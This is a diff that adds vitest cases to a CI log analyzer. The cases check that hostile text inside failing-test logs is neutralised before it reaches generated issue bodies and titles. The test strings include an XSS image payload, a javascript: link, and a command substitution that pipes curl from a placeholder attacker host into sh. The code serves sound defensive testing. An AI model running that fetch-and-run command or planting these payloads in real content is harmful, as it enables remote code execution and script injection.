@@ -1,5 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { analyzeLog } from '../src/analyzer/analyze.js';
+import { factLines, keyLinesBlock, nextStep } from '../src/filing/issue-body.js';
+import { createSanitizer } from '../src/text/sanitize.js';
 
 /**
  * The MUnit, specs2, Carthage, Julia and Nix rules attacked from outside: output of other tools
@@ -80,4 +82,45 @@ describe("a REPL's echoed input is not a Nix builder's prefixed log line", () =>
     );
     expect(a.findings[0]?.rule).toBe('nix.builder-log-prefixed');
   });
+});
+
+describe("the new rules' facts reach an issue only through the sanitizer", () => {
+  const E = '@maintainer <img src=x onerror=alert(1)> [x](javascript:alert(1)) $(curl evil.example|sh) #123';
+  // The same without spaces, for facts captured as one \S+ word.
+  const W = '@maintainer<img/src=x/onerror=alert(1)>[x](javascript:alert(1))$(curl)#123';
+  const logs: Array<[string, string]> = [
+    ['munit.failed', `==> X evil.Suite.${E}  0.001s munit.FailException: ${E}\n`],
+    ['specs2.failed', `[error] x ${E}\n[error]  '1' is not equal to '2'\n`],
+    ['specs2.error', `[error] ! ${E}\n[error]  boom\n`],
+    ['julia.test-failed', `${E}: Test Failed at /w/test/${W}.jl:7\n  Expression: 1 == 2\n`],
+    ['julia.error-during-test', `${E}: Error During Test at /w/${W}.jl:12\n  Test threw exception\n`],
+    ['julia.pkg-build', `┌ Error: Error building \`${E}\`:\n│ boom\n└ @ Pkg\n`],
+    ['julia.pkg-unsatisfiable', `ERROR: Unsatisfiable requirements detected for package ${W} [0123abcd]:\n`],
+    ['documenter.doctest-failure', `┌ Error: doctest failure in src/${W}.md:3-6\n`],
+    [
+      'carthage.common-architectures',
+      `Building universal frameworks with common architectures is not possible. The device and simulator slices for "${E}" both build for: arm64\n`,
+    ],
+  ];
+  const LIVE = /(^|[^\w`])@maintainer\b|<img|\]\(javascript:|\$\(curl|(^|[^\w&`])#123\b/;
+
+  for (const [rule, log] of logs) {
+    it(`${rule}: its facts, next step, key lines and title carry no live markup`, async () => {
+      const a = await analyzeLog(log);
+      const f = a.findings[0]!;
+      expect(f.rule).toBe(rule);
+      // The facts hold the hostile text: what follows is about the output, not a lucky miss.
+      expect(JSON.stringify(f.facts)).toMatch(/@maintainer/);
+      const s = createSanitizer();
+      const out = [...factLines(s, f.facts), nextStep(s, a.category, f.facts), keyLinesBlock(s, f)].join(
+        '\n',
+      );
+      // The key lines are a fenced block (inert as a whole); everything else is markdown.
+      const outsideCode = out.replace(/^(`{3,}|~{3,})[^\n]*\n[\s\S]*?\n\1\s*$/gm, '');
+      expect(outsideCode).not.toBe(out);
+      expect(outsideCode, out).not.toMatch(LIVE);
+      // A title is plain text: only mentions and issue references would act there.
+      expect(s.title(f.title)).not.toMatch(/(^|[^\w`])@maintainer\b|(^|[^\w&`])#123\b/);
+    });
+  }
 });
